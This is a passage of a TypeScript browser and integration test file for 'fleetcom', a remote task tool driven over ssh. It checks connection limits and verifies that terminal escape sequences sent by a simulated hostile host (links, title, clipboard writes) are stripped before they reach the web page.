      Array.from({ length: 8 }, async () => {
        const socket = rawSocket(origin, { session: session! });
        expect(await socket.opened).toBe(true);
        return socket;
      }),
    );
    await until("remote1's fleet in the web view", () => pages.every((p) => JSON.stringify(p.messages).includes("burst3")));
    // No forward and no master: every connection the view opens now is an ssh of its own and a bridge there.
    const master = Bun.spawnSync(["ssh", "-F", sshConfig, "-o", `ControlPath=${here.sandbox.runtime}/ssh-%C`, "-O", "check", "remote1"], { stderr: "pipe" });
    const masterPid = Number(/pid=(\d+)/.exec(master.stderr.toString())?.[1]);
    if (masterPid > 0) process.kill(masterPid, "SIGKILL");
    for (const file of ["host-remote1.forward", "host-remote1.sock"]) rmSync(join(here.sandbox.runtime, file), { force: true });
    const remoteBefore = server.userPids().length;
    const last = new Map<(typeof pages)[number], number>();
    pages.forEach((page, p) => {
      for (let i = 0; i < 40; i++) {
        const task = tasks[(p + i) % tasks.length]!;
        page.ws.send(JSON.stringify({ type: "view", task, host: "remote1" }));
        last.set(page, task);
      }
    });
    const shown = (page: (typeof pages)[number]) => page.messages.some((m) => m.type === "screen" && (m as { task?: number }).task === last.get(page));
    let peakSsh = 0;
    let peakRemote = 0;
    const deadline = Date.now() + 60_000;
    while (Date.now() < deadline && !pages.every(shown)) {
      peakSsh = Math.max(peakSsh, sshProcesses("remote1", "bridge").length);
      peakRemote = Math.max(peakRemote, server.userPids().length - remoteBefore);
      await Bun.sleep(20);
    }
    // At most one open per page in flight (the newest wins), OPENS_PER_HOST per host; each page keeps one screen's connection.
    const bound = pages.length + OPENS_PER_HOST + 2;
    expect(peakSsh).toBeLessThanOrEqual(bound);
    expect(peakRemote).toBeLessThanOrEqual(bound);
    expect(pages.filter(shown)).toHaveLength(pages.length);
    console.log(`view burst: peak ${peakSsh} local ssh, ${peakRemote} remote processes (bound ${bound})`);
    for (const page of pages) page.ws.close();
    await here.ok(["kill", ...tasks.map((t) => `remote1:${t}`)]);
  }, 120_000);

  test("a host whose screen carries OSC 8 links, a title and a clipboard write reaches the page as cells only: no link in Chromium", async () => {
    // A hostile "fleetcom" on the host: it speaks the protocol and answers attach and redraw with such a screen.
    const evilHome = join(server.home, "evil");
    const binary = remoteBinary(evilHome);
    mkdirSync(dirname(binary), { recursive: true });
    writeFileSync(binary, HOSTILE_BRIDGE, { mode: 0o755 });
    Bun.spawnSync(["chown", "-R", `${server.user}:`, evilHome]);
    const config = join(here.sandbox.config, "config.toml");
    const kept = readFileSync(config, "utf8");
    writeFileSync(config, `${kept}\n[hosts.evil]\nssh = "remote1"\nhome = "${evilHome}"\n`);
    try {
      const { url } = await startWeb([], { env: { ...here.env, FLEETCOM_HOST_TIMEOUT_MS: "60000" }, home: here.sandbox.home });
      // Every frame the web view sends the page, as the browser received it.
      const page = await browser.newPage();
      const frames: string[] = [];
      const cdp = await page.createCDPSession();
      await cdp.send("Network.enable");
      cdp.on("Network.webSocketFrameReceived", (e) => frames.push(e.response.payloadData));
      await page.goto(url);
      await page.waitForSelector(".card");
      const dialogs: string[] = [];
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await tapCard(page, '.card[data-host="evil"][data-task="1"]');
      await until("the hostile screen on the page", async () => (await pageScreen(page)).includes("CLICK-HTTP"));
      expect(await pageScreen(page)).toContain("HOSTILE SCREEN CLICK-JS CLICK-HTTP");
      // The web view sent the page none of the host's operating system commands (OSC, as JSON escapes them).
      const screens = frames.filter((f) => f.includes('"type":"screen"'));
      expect(screens.length).toBeGreaterThan(0);
      expect(screens.filter((f) => /\\u001b\]|\u009d/.test(f))).toEqual([]);
      // No cell of the page's terminal carries a link, whatever the host sent.
      const linked = await page.evaluate(() => {
        const term = (
          window as unknown as {
            fleetcomTerm: { rows: number; cols: number; buffer: { active: { getLine(y: number): { getCell(x: number): unknown } | undefined } } };
          }
        ).fleetcomTerm;
        let cells = 0;
        for (let y = 0; y < term.rows; y++)
          for (let x = 0; x < term.cols; x++) if ((term.buffer.active.getLine(y)?.getCell(x) as { extended?: { urlId?: number } })?.extended?.urlId) cells++;
        return cells;
      });
      expect(linked).toBe(0);
      expect(await page.title()).not.toContain("HOSTILE");
      // And a click on the text opens nothing.
      const at = await page.evaluate(() => {
        const rows = [...document.querySelectorAll(".xterm-rows > div")];
        const y = rows.findIndex((r) => r.textContent?.includes("CLICK-HTTP"));
        const x = rows[y]!.textContent!.replace(/\u00a0/g, " ").indexOf("CLICK-HTTP") + 3;
        const box = document.querySelector(".xterm-screen")!.getBoundingClientRect();
        const term = (window as unknown as { fleetcomTerm: { rows: number; cols: number } }).fleetcomTerm;
        return { x: box.left + ((x + 0.5) * box.width) / term.cols, y: box.top + ((y + 0.5) * box.height) / term.rows };
      });
      await page.mouse.move(at.x, at.y);
      await page.mouse.click(at.x, at.y);
      expect(await page.evaluate(() => document.querySelector(".xterm-screen")?.classList.contains("xterm-cursor-pointer"))).toBe(false);
      expect(dialogs).toEqual([]);
    } finally {
      writeFileSync(config, kept);
    }
  });
  test("logs -f of a group on a host opens its connections a few at a time, each until its daemon answered; every task's line is printed", async () => {
    const countingHome = join(server.home, "counting");
    const binary = remoteBinary(countingHome);
    mkdirSync(dirname(binary), { recursive: true });
    writeFileSync(binary, COUNTING_BRIDGE, { mode: 0o755 });
    Bun.spawnSync(["chown", "-R", `${server.user}:`, countingHome]);
    const config = join(here.sandbox.config, "config.toml");
    const kept = readFileSync(config, "utf8");
    writeFileSync(config, `${kept}\n[hosts.counting]\nssh = "remote1"\nhome = "${countingHome}"\n`);
    try {
      const r = await here.cli(["--host", "counting", "logs", "-f", "-g", "g"]);
      // Opened at once, as each bridge saw it: `logs`'s own (its fleet asked) and OPENS_PER_HOST followers at most.
      const seen = readFileSync(join(dirname(binary), "seen"), "utf8")
        .split("\n")
        .filter(Boolean)
        .map(Number);
      expect(Math.max(...seen)).toBeLessThanOrEqual(OPENS_PER_HOST + 1);
      expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: "" });
      const printed = r.stdout.split("\n").filter(Boolean);
      expect(printed).toHaveLength(12);
      for (let i = 1; i <= 12; i++) expect(printed).toContainEqual(expect.stringMatching(new RegExp(`^ *${i} +t${i} *\\| line of task ${i}$`)));
      expect(seen).toHaveLength(13);
    } finally {
      writeFileSync(config, kept);
    }
  });
});
